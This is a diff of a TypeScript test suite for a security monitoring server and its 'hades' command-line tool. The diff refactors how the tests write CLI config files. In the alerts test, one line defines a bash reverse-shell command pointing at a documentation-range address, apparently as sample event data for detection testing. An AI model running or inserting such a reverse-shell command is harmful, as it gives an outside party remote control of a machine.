@@ -877,7 +877,7 @@ describe('admin actions and the audit log', () => {
     const other = await TestServer.start({ dataDir: path.join(dir, 'reload-data'), extra: `rules: { dirs: [${JSON.stringify(rulesDir)}] }\n` });
     // hades rules reload: the same route, as an operator runs it.
     const cli = path.join(dir, 'reload-server.yaml');
-    writeFileSync(cli, serverConfigText(other.dataDir, { agents: other.addresses.gateway, api: other.addresses.api.replace(/^https:\/\//, '') }, ''));
+    other.writeCliConfig(cli);
     try {
       const reloaded = await runHades(['rules', 'reload', '--config', cli]);
       assert.equal(reloaded.status, 0, reloaded.stderr);
@@ -1099,7 +1099,7 @@ describe('the hades command against the running server', () => {
   let events: AnyEvent[];
   before(async () => {
     configFile = path.join(dir, 'server.yaml');
-    writeFileSync(configFile, serverConfigText(server.dataDir, { agents: server.addresses.gateway, api: server.addresses.api.replace(/^https:\/\//, '') }, `cmdb: { file: ${JSON.stringify(cmdbFile)} }\n`));
+    server.writeCliConfig(configFile, `cmdb: { file: ${JSON.stringify(cmdbFile)} }\n`);
     identity = await server.enrollAgent();
     events = makeEvents(3, { prefix: 'cli' });
     await deliver(identity, events);
@@ -1265,7 +1265,7 @@ describe('managing the fleet with the hades command', () => {
   let configFile: string;
   before(() => {
     configFile = path.join(dir, 'server-manage.yaml');
-    writeFileSync(configFile, serverConfigText(server.dataDir, { agents: server.addresses.gateway, api: server.addresses.api.replace(/^https:\/\//, '') }, `cmdb: { file: ${JSON.stringify(cmdbFile)} }\n`));
+    server.writeCliConfig(configFile, `cmdb: { file: ${JSON.stringify(cmdbFile)} }\n`);
   });
   const hades = (...args: string[]) => runHades([...args, '--config', configFile]);
   const hadesWith = (input: string, ...args: string[]) => runHades([...args, '--config', configFile], { input });
@@ -1661,7 +1661,7 @@ describe('alerts through the API and the hades command', () => {
   const marker = `198.51.100.${1 + Math.floor(Math.random() * 200)}`;
   before(async () => {
     configFile = path.join(dir, 'server-alerts.yaml');
-    writeFileSync(configFile, serverConfigText(server.dataDir, { agents: server.addresses.gateway, api: server.addresses.api.replace(/^https:\/\//, '') }));
+    server.writeCliConfig(configFile);
     const identity = await server.enrollAgent();
     const shell = `bash -i >& /dev/tcp/${marker}/4444 0>&1`;
     const events = makeEvents(2, {
